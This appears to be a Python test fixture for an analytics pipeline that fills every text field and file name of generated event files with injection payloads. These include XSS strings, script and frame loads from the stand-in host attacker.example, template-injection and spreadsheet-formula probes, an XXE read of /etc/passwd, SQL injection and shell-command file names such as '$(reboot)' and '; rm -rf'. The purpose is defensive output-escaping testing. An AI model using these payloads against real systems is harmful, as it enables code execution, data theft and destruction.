"""Texts that do harm where they are taken for more than text, and files that are full of them."""

import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

from analytics_pipeline.events.catalog import EVENT_TYPES
from analytics_pipeline.events.declaration import EventType, FieldType
from analytics_pipeline.events.tables import fields_of

HOST = "attacker.example"
RUN = "document.documentElement.dataset.canary=1"

HTML = (
    f"<script>{RUN}</script>",
    f"\"><img src=x onerror={RUN}>",
    f"'><svg/onload={RUN}>",
    f"</style></title></table></textarea><script src=//{HOST}/a.js></script>",
    f"<!-- --><base href=//{HOST}><iframe src=https://{HOST}/frame></iframe>",
    f"<style>*{{background:url(https://{HOST}/style)}}</style>",
    f"<svg><image href=https://{HOST}/svg /><foreignObject><body onload={RUN}></foreignObject>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<meta http-equiv=refresh content=\"0;url=https://{HOST}/meta\">",
    f"<a href=\"javascript:{RUN}\">click</a>",
    f"<form action=https://{HOST}><button>ok</button></form>",
    f"<link rel=attachment href=data:,secret><link rel=stylesheet href=https://{HOST}/css>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    "<![CDATA[<b>x</b>]]><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{0} {report.__class__} %s %(x)s %n",
)
FORMULAS = (
    f"=HYPERLINK(\"https://{HOST}\",\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=1+1\";=1+1",
    "two\nlines, a \"quote\", a 'quote' and; semi\tcolons",
    f"<r><t>x</t></r></is></c><c r=\"A1\"><f>HYPERLINK(\"https://{HOST}\")</f></c><c><is><r></r>",
    "_x003C_f_x003E_",
)  # fmt: skip
MARKDOWN = (
    f"![pixel](https://{HOST}/pixel.png)",
    f"[click]( javascript:{RUN} ) [b]: https://{HOST}",
    f"``` [a](https://{HOST}) | x | y |",
)
ADDRESSES = (
    f"https://{HOST}/address", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "file:///etc/passwd", f"mailto:a@{HOST}", f"\\\\{HOST}\\share", "../../../../etc/passwd",
    "..\\..\\windows\\system32",
)  # fmt: skip
SIGNS = (
    "right\u202eto left \u2066isolate\u2069 \u200fmark",
    "bell\x07 escape\x1b[31m nul\x00 delete\x7f",
    "no characters \ufffe\uffff\ufdd0 zero\u200bwidth\ufeff",
    "line\u2028separator \u0085next",
    "$\\frac{1}{0}$ \\usepackage{x} ^_^",
    "(/S /JavaScript /JS (app.alert(1))) endobj",
    "%PDF-1.7 <</S/URI/URI(https://x)>> stream",
    "漢字 🙂 e\u0301 \U000e0041",
    "a" * 20_000,
    "' OR 1=1; DROP TABLE x; --",
    "",
    " ",
)  # fmt: skip
ATTACKS = (*HTML, *TEMPLATES, *FORMULAS, *MARKDOWN, *ADDRESSES, *SIGNS)

FILE_NAMES = (
    "=cmd.jsonl", "+1.jsonl", f"<img src=x onerror={RUN}>.jsonl", "'\";&.jsonl", "{{7*7}}.jsonl",
    "[click](javascript:x).jsonl", "![x](data:x).jsonl", "right\u202eto left.jsonl",
    "two\nlines.jsonl", "bell\x07.jsonl", "<r><t>.jsonl", "@SUM(1).jsonl", "-1.jsonl",
    "%2e%2e%2f.jsonl", "$(reboot).jsonl", "; rm -rf.jsonl",
)  # fmt: skip
SHOWN = 10
"""Of most lists a report shows so many rows, the most frequent first."""


def drop_attacks(landing: Path, day: date) -> None:
    """Write files for a day in which every free text of every type of event is an attack."""
    landing.mkdir(parents=True, exist_ok=True)
    events = list(attacking_events(day))
    for number, name in enumerate(FILE_NAMES):
        lines = [json.dumps(event) for event in events[number :: len(FILE_NAMES)]]
        (landing / name).write_text("\n".join(lines) + "\n", encoding="utf-8")


def attacking_events(day: date) -> Iterator[dict[str, Any]]:
    """Events of every type, and records that are none, with attacks in all their free texts.

    Different fields are shown different attacks, and each has some of the attacks more often, so
    that lists which show the most frequent values show different ones.
    """
    for kind, event_type in enumerate(EVENT_TYPES):
        for number in range(len(ATTACKS)):
            for copy in range(3 if (number + 5 * kind) % len(ATTACKS) < SHOWN else 1):
                yield _event(event_type, day, number, copy)
    for number, attack in enumerate(ATTACKS):
        at = f"{day}T13:00:{number % 60:02}Z"
        yield {"event_type": attack, "timestamp": at}
        yield {"event_type": "cache_query", "timestamp": at, "cache_hit": attack}
        yield {"event_type": "cache_query", "timestamp": at, "cache_hit": True, attack: attack}
        yield {"event_type": "ui_interaction", "timestamp": attack, "action": attack}


def _event(event_type: EventType, day: date, number: int, copy: int) -> dict[str, Any]:
    """An event whose texts are attacks, and whose numbers are some."""
    event: dict[str, Any] = {}
    for position, field in enumerate(fields_of(event_type)):
        attack = ATTACKS[(number + 7 * position) % len(ATTACKS)]
        value: Any = {
            FieldType.TEXT: attack,
            FieldType.INTEGER: 10 + number,
            FieldType.NUMBER: 1.5 + number / 10,
            FieldType.BOOLEAN: number % 3 == 0,
            FieldType.TIMESTAMP: f"{day}T1{copy}:{number % 60:02}:00Z",
        }[field.type]
        if field.accepted:
            value = field.accepted[0]
        outer, _, inner = field.path.rpartition(".")
        if outer:
            event.setdefault(outer, {})[inner] = value
        else:
            event[inner] = value
    event |= {"event_type": event_type.name, "timestamp": f"{day}T1{copy}:{number % 60:02}:00Z"}
    event["event_id"] = f"{ATTACKS[number][:40]}{event_type.name}{number}.{copy}"
    return event
